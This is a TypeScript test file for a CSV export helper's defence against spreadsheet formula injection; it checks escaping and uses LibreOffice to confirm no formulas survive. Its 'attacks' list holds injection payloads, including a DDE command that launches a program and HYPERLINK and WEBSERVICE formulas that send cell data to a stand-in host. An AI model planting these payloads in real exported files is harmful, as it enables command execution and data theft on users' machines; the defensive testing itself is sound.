import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { expect, test } from 'vitest'
import { BYTE_ORDER_MARK, toCsvRow } from './csv.ts'

test.each([
  ['plain', '"plain"'],
  ['say "hi", now', '"say ""hi"", now"'],
  ['two\nlines', '"two\nlines"'],
  ['=1+1', `"'=1+1"`],
  ['+1 312 555 0199', `"'+1 312 555 0199"`],
  ['-2', `"'-2"`],
  ['@SUM(1)', `"'@SUM(1)"`],
  ['＝1+1', `"'＝1+1"`],
  ['\t=1', `"'\t'=1"`],
  ['\rx', `"'\rx"`],
  ['a;=1', `"a;'=1"`],
  ['a\n "=1', `"a\n ""'=1"`],
  ['0312', `"'0312"`],
  ['a-b =c', '"a-b =c"'],
])('toCsvRow writes the text %j as the cell %s', (text, cell) => {
  expect(toCsvRow([text])).toBe(`${cell}\r\n`)
})

// Fields that a spreadsheet might run as formulas.
const attacks = [
  `=cmd|' /C calc'!A0`,
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://a.example?x="&A1,"click")',
  '=WEBSERVICE("http://a.example")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  '";=1+1;"',
  '","=1+1","',
  'a;=1+1',
  'a;"=1+1',
  'a\n=1+1;=1+1',
  'a\r\n=1+1',
  'a\t=1+1\t',
  "'=1+1",
  '＝1+1',
]
const soffice = await promisify(execFile)('soffice', ['--version']).then(
  () => 'soffice',
  () => undefined,
)

/** Returns the formulas that LibreOffice finds in a CSV file if it splits the file at this separator. */
async function formulasIn(csv: string, separator: string) {
  const folder = mkdtempSync(join(tmpdir(), 'website-'))
  try {
    writeFileSync(join(folder, 'leads.csv'), csv)
    await promisify(execFile)('soffice', [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      // Separator, text delimiter, UTF-8, starting at line 1.
      `--infilter=CSV:${separator.charCodeAt(0)},34,76,1`,
      ...['--convert-to', 'fods', '--outdir', folder, join(folder, 'leads.csv')],
    ])
    const sheet = readFileSync(join(folder, 'leads.fods'), 'utf8')
    return [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula)
  } finally {
    rmSync(folder, { recursive: true })
  }
}

test.skipIf(!soffice)(
  'LibreOffice runs no formula from an exported file, whatever the separator (skipped without soffice)',
  { timeout: 60_000 },
  async () => {
    const rows = attacks.map((attack) => ['before', attack, `x${attack}`, attack, 'after'])
    const safe = BYTE_ORDER_MARK + rows.map(toCsvRow).join('')
    const unescaped = rows
      .map((row) => `${row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`)
      .join('')

    for (const separator of [',', ';', '\t']) {
      expect(await formulasIn(safe, separator), separator).toEqual([])
      // Shows that the check above can fail: without the escaping, LibreOffice does find formulas.
      expect((await formulasIn(unescaped, separator)).length, separator).toBeGreaterThan(0)
    }
  },
)
